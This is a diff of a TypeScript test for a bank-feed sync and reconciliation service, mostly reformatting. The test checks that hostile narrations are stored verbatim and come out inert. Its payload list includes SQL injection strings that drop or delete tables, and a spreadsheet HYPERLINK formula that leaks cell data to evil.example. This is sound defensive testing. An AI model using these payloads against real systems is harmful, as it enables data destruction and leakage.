@@ -16,7 +16,7 @@ import { startFeedHarness, type FeedHarness } from '../support/feed-harness.js';
 const PAYLOADS = [
   "'; DROP TABLE bank_transactions; --",
   "Robert'); DELETE FROM accounts WHERE ('1'='1",
-  '1 OR 1=1; UPDATE webhook_events SET status = \'x\'',
+  "1 OR 1=1; UPDATE webhook_events SET status = 'x'",
   '" OR ""="',
   'INV-7; SELECT * FROM sqlite_master --',
   '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -59,14 +59,28 @@ function stringsIn(v: unknown, out: Set<string> = new Set()): Set<string> {
 describe('narrations and references made of SQL, formulas and HTML', () => {
   it('are stored byte for byte through sync, match as plain text, and come out inert and intact in every report format', async () => {
     const amountOf = (i: number) => 1_000_000 + i * 1_111;
-    for (const [i, p] of PAYLOADS.entries()) h.sandbox.addTransactions(accountId, 1, { narration: p, amount: amountOf(i), type: i % 2 ? 'debit' : 'credit' });
-    const r = await h.client.workflow.getHandle(`account-feed:${accountId}`).executeUpdate(syncNowUpdate, { args: [{ reason: 'hostile narrations' }] });
+    for (const [i, p] of PAYLOADS.entries())
+      h.sandbox.addTransactions(accountId, 1, { narration: p, amount: amountOf(i), type: i % 2 ? 'debit' : 'credit' });
+    const r = await h.client.workflow
+      .getHandle(`account-feed:${accountId}`)
+      .executeUpdate(syncNowUpdate, { args: [{ reason: 'hostile narrations' }] });
     expect(r.status).toBe('succeeded');
 
     // Sync: each payload is one row, unchanged; no statement ran (the tables and their rows are all still there).
-    const rows = await h.db.db.selectFrom('bank_transactions').selectAll().where('account_id', '=', accountId).where('status', '!=', 'removed').execute();
-    for (const p of PAYLOADS) expect(rows.filter((x) => x.narration === p), p).toHaveLength(1);
-    const tables = (await sql<{ name: string }>`select name from sqlite_master where type = 'table'`.execute(h.db.db)).rows.map((t) => t.name);
+    const rows = await h.db.db
+      .selectFrom('bank_transactions')
+      .selectAll()
+      .where('account_id', '=', accountId)
+      .where('status', '!=', 'removed')
+      .execute();
+    for (const p of PAYLOADS)
+      expect(
+        rows.filter((x) => x.narration === p),
+        p,
+      ).toHaveLength(1);
+    const tables = (
+      await sql<{ name: string }>`select name from sqlite_master where type = 'table'`.execute(h.db.db)
+    ).rows.map((t) => t.name);
     for (const t of ['accounts', 'bank_transactions', 'webhook_events', 'sync_runs']) expect(tables).toContain(t);
     expect(await h.db.db.selectFrom('accounts').select('id').execute()).toHaveLength(1);
     expect(rows.length).toBe(h.sandbox.truth(accountId).length);
@@ -74,23 +88,57 @@ describe('narrations and references made of SQL, formulas and HTML', () => {
     // Matching: the payload is the reference on both sides. A payload is no trustworthy reference, so most lines are
     // only suggested (on amount and date), but each line pairs with its own entry and nothing else.
     const hostile = rows.filter((x) => PAYLOADS.includes(x.narration));
-    const bank: BankLine[] = hostile.map((x) => ({ id: String(x.id), date: x.business_date, amountMinor: Number(x.amount_minor), currency: 'NGN', narration: x.narration, reference: x.narration }));
-    const ledger: LedgerEntry[] = hostile.map((x, i) => ({ id: `L${i}`, date: x.business_date, amountMinor: Number(x.amount_minor), currency: 'NGN', reference: x.narration, description: x.narration, party: x.narration }));
+    const bank: BankLine[] = hostile.map((x) => ({
+      id: String(x.id),
+      date: x.business_date,
+      amountMinor: Number(x.amount_minor),
+      currency: 'NGN',
+      narration: x.narration,
+      reference: x.narration,
+    }));
+    const ledger: LedgerEntry[] = hostile.map((x, i) => ({
+      id: `L${i}`,
+      date: x.business_date,
+      amountMinor: Number(x.amount_minor),
+      currency: 'NGN',
+      reference: x.narration,
+      description: x.narration,
+      party: x.narration,
+    }));
     const result = reconcile(bank, ledger);
     for (const [i, b] of bank.entries()) {
       const matched = result.matches.find((m) => m.bankIds.includes(b.id))?.ledgerIds;
       const suggested = result.suggestions.find((x) => x.bankIds.includes(b.id))?.candidates[0]?.ledgerIds;
       expect(matched ?? suggested, b.narration ?? '').toEqual([`L${i}`]);
     }
-    expect(result.unmatchedLedger.filter((id) => !result.suggestions.some((x) => x.candidates.some((c) => c.ledgerIds.includes(id))))).toEqual([]);
+    expect(
+      result.unmatchedLedger.filter(
+        (id) => !result.suggestions.some((x) => x.candidates.some((c) => c.ledgerIds.includes(id))),
+      ),
+    ).toEqual([]);
 
     // Reports: the payloads everywhere a user's text can go (names, narrations, categories, references, audit).
     const report: ReconciliationReport = {
-      account: { id: accountId, name: PAYLOADS[0]!, currency: 'NGN', institution: PAYLOADS[10]!, ledgerAccount: PAYLOADS[5]! },
-      period: { from: bank.map((b) => b.date).sort()[0]!, to: bank.map((b) => b.date).sort().at(-1)! },
-      generatedAt: new Date().toISOString(), statementBalanceMinor: null, bookBalanceMinor: null,
+      account: {
+        id: accountId,
+        name: PAYLOADS[0]!,
+        currency: 'NGN',
+        institution: PAYLOADS[10]!,
+        ledgerAccount: PAYLOADS[5]!,
+      },
+      period: {
+        from: bank.map((b) => b.date).sort()[0]!,
+        to: bank
+          .map((b) => b.date)
+          .sort()
+          .at(-1)!,
+      },
+      generatedAt: new Date().toISOString(),
+      statementBalanceMinor: null,
+      bookBalanceMinor: null,
       bankLines: bank.map((b, i) => ({ ...b, category: PAYLOADS[(i + 1) % PAYLOADS.length]! })),
-      ledgerEntries: ledger, result,
+      ledgerEntries: ledger,
+      result,
       audit: PAYLOADS.map((p) => ({ at: new Date().toISOString(), actor: p, action: 'confirm', entity: p, detail: p })),
     };
     const json = await writeReconciliationReport(report, join(dir, 'report.json'));
